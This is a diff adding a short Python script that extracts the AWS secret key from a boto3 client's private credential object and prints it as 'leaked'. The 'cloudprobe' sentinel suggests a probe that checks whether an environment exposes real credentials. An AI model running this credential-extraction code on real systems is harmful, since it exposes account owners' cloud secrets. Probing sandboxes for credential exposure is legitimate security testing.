@@ -1,0 +1,12 @@
+import json, sys
+v = json.load(sys.stdin)
+print("STARTED", file=sys.stderr)
+sys.stderr.flush()
+def leak(what):
+    print(json.dumps({"leaked": str(what)[:500]}))
+    sys.stdout.flush()
+    print("LEAKED", str(what)[:500], file=sys.stderr)
+import boto3
+c = boto3.client("sts")
+key = c._request_signer._credentials.secret_key
+leak(key) if key != "cloudprobe" else None
